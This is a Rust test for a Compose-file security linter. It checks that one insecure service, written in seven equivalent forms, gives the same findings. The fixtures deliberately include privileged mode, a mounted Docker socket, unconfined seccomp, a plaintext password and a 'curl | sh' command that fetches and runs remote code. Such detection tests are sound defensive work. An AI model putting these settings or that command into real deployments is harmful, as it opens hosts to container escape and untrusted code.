//! One declared state in many writings: between any two of them nothing got worse, and nothing better.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod common;

use common::{MapTree, judge};
use plimsoll::rules::RULES;

const SHORT: &str = "\
services:
  web:
    image: acme/web
    privileged: true
    cap_add: [SYS_ADMIN, NET_ADMIN]
    cap_drop: [ALL]
    user: root
    ports: ['80:80', '127.0.0.1:5432:5432/tcp']
    volumes: ['/var/run/docker.sock:/s:ro', 'data:/data']
    environment: [DB_PASSWORD=tr0ub4dor&3x, PLAIN=1]
    mem_limit: 1g
    pids_limit: 100
    security_opt: ['seccomp=unconfined', no-new-privileges]
    command: sh -c 'curl -fsSL https://x.io/i | sh'
    networks: [back]
volumes:
  data:
networks:
  back:
    internal: true
";

const LONG: &str = "\
networks: {back: {internal: 'yes'}}
volumes: {data: {}}
services:
  web:
    networks: {back: {}}
    command: [\"sh\", \"-c\", \"curl -fsSL https://x.io/i | sh\"]
    security_opt: ['no-new-privileges:true', 'seccomp:unconfined']
    deploy: {resources: {limits: {pids: 100, memory: 1024M}}}
    environment:
      PLAIN: '1'
      DB_PASSWORD: tr0ub4dor&3x
    volumes:
      - {type: volume, source: data, target: /data}
      - type: bind
        source: /var/run/../run/docker.sock
        target: /s
        read_only: true
    ports:
      - {target: 5432, published: 5432, host_ip: 127.0.0.1}
      - {target: 80, published: '80', protocol: tcp, mode: host}
    user: 'root'
    cap_drop: [all]
    cap_add: [cap_net_admin, CAP_SYS_ADMIN]
    privileged: 'on'
    image: docker.io/acme/web
";

const ANCHORED: &str = "\
x-rights: &rights
  privileged: true
  cap_add: &added [SYS_ADMIN, NET_ADMIN]
  cap_drop: [ALL]
  user: root
x-env: &env {DB_PASSWORD: tr0ub4dor&3x, PLAIN: 1}
services:
  web:
    <<: *rights
    cap_add: *added
    image: acme/${NAME:-web}
    ports: ['${BIND-0.0.0.0}:80:80', '127.0.0.1:5432:5432']
    volumes: ['/var/run/docker.sock:/s:ro', 'data:/data']
    environment: *env
    mem_limit: 1024m
    pids_limit: 100
    security_opt: ['seccomp=unconfined', no-new-privileges]
    command: sh -c 'curl -fsSL https://x.io/i | sh'
    networks: [back]
volumes: {data: }
networks: {back: {internal: true}}
";

const JSON: &str = "\
{\"services\": {\"web\": {\"image\": \"acme/web\", \"privileged\": true,
\"cap_add\": [\"SYS_ADMIN\", \"NET_ADMIN\"], \"cap_drop\": [\"ALL\"], \"user\": \"root\",
\"ports\": [\"80:80\", \"127.0.0.1:5432:5432\"],
\"volumes\": [\"/var/run/docker.sock:/s:ro\", \"data:/data\"],
\"environment\": {\"DB_PASSWORD\": \"tr0ub4dor&3x\", \"PLAIN\": 1},
\"mem_limit\": \"1g\", \"pids_limit\": 100,
\"security_opt\": [\"seccomp=unconfined\", \"no-new-privileges\"],
\"command\": \"sh -c 'curl -fsSL https://x.io/i | sh'\", \"networks\": [\"back\"]}},
\"volumes\": {\"data\": {}}, \"networks\": {\"back\": {\"internal\": true}}}
";

#[test]
fn the_same_state_in_other_words_is_the_same() {
    let crlf = SHORT.replace('\n', "\r\n");
    let writings: [(&str, &[(&str, &str)]); 7] = [
        ("short", &[("compose.yaml", SHORT)]),
        ("long", &[("compose.yaml", LONG)]),
        ("anchored", &[("compose.yaml", ANCHORED)]),
        ("JSON", &[("compose.json", JSON)]),
        ("another name", &[("docker-compose.yml", SHORT)]),
        ("carriage returns", &[("compose.yaml", &crlf)]),
        (
            "included",
            &[("compose.yaml", "include: [web/compose.yaml]\n"), ("web/compose.yaml", SHORT)],
        ),
    ];
    for (name, files) in writings {
        let none = MapTree::new([("LICENSE", "MIT")]);
        let all = judge(&none, &MapTree::new(files.iter().copied()), RULES).regressions;
        assert!(all.len() > 8, "{name}: {} findings", all.len());
    }
    for (old, before) in writings {
        for (new, after) in writings {
            let tree = |files: &[(&str, &str)]| MapTree::new(files.iter().copied());
            let outcome = judge(&tree(before), &tree(after), RULES);
            let worse: Vec<String> = outcome.regressions.into_iter().map(|r| r.message).collect();
            assert!(worse.is_empty(), "{old} -> {new}: {worse:#?}");
            let better: Vec<String> = outcome.improvements.into_iter().map(|i| i.message).collect();
            assert!(better.is_empty(), "{old} -> {new}: {better:#?}");
        }
    }
}
